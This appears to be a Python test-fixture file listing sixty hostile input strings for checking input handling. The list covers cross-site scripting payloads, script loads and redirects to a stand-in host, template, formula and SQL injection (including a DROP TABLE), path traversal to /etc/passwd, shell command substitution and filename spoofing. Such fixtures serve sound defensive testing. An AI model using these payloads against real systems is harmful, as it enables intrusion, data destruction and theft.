"""Sixty texts that a feed or a caller may send: scripts, formulas, paths, queries, templates, headers, and characters that trick the eye."""

TEXTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<math><mi xlink:href=data:x,1>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<object data=data:text/html,x>", "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><button>x", "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=</noscript>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<!--", "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>", "'-alert(1)-'", '";alert(1);//', "`${alert(1)}`", "${7*7}", "{{7*7}}", "{% import os %}",
    "<%= 7*7 %>", "#{7*7}", "=1+1", "+1+1|cmd", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")', "' OR 1=1 --",
    "'; DROP TABLE runs; --", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "$(touch x)", "x%0d%0aSet-Cookie:a=b", "evil\u202etxt.exe",
    "line\u2028break",
)  # fmt: skip
